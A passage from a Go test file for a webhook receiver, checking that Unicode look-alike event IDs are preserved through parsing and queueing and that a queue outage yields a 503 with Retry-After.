	r := newRig(t)
	ids := []string{"caf\u00e9", "cafe\u0301", "CAF\u00c9", "caf\u00e9 ", "\u0441af\u00e9"}
	for _, id := range ids {
		if got, err := parse(r.send(toDefault(strings.Replace(payment, "evt_1", id, 1))).Body.Bytes()); got.EventID != id || err != nil {
			t.Errorf("answer = %+v, %v, want the id %+q", got, err, id)
		}
	}
	var got []string
	for _, ev := range r.queue.got() {
		got = append(got, ev.ID)
	}
	if !slices.Equal(got, ids) {
		t.Errorf("the queue got %+q, want %+q", got, ids)
	}
}

// 88 and 89: which store holds an event is for pkg/custody to find, and tested
// there. If none does, the provider is asked to try again.
func TestCatalogueQueueDown(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	r.queue.answer = answers(webhook.Receipt{}, fmt.Errorf("%w: connection refused", webhook.ErrNotHeld))
	w := r.send(toGitHub(t, `{}`))
	if got, err := parse(w.Body.Bytes()); w.Code != 503 || got.EventID != "d-1" || err != nil || w.Header().Get("Retry-After") == "" {
		t.Errorf("answer = %d %+v, %v, want a 503 for d-1", w.Code, got, err)
	}
}
